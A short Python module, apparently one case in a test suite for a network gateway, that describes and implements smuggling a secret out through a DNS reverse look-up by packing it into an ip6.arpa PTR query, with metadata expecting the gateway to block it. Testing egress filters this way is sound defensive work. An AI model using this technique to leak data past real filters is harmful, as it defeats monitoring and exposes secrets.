"""A secret in the address of a reverse look-up.

Sixteen bytes fit into the IPv6 address that is asked about; the question goes to whoever holds
that part of `ip6.arpa`. Programs ask such questions for log lines, so filters let them pass.

Not covered: reverse look-ups that the host itself makes; it makes none for the worker.
"""

ATTACK = {
    "title": "Secret in a reverse look-up",
    "group": "dns",
    "layer": "gateway",
    "risk": "exfiltration",
    "references": ["RFC 3596 section 2.5", "ATT&CK T1048.003", "R038"],
    "arrives": [{"what": "question", "name": "*.ip6.arpa"}],
    "stopped": [
        {"reason": ["not-listed"], "entry": ["dns"], "where": {"name": "*.ip6.arpa"}},
    ],
}

PTR = 12


def attempt(kit):
    digits = f"26062800{kit.word}{'0' * 12}"
    kit.ask(".".join(reversed(digits)) + ".ip6.arpa", kind=PTR)
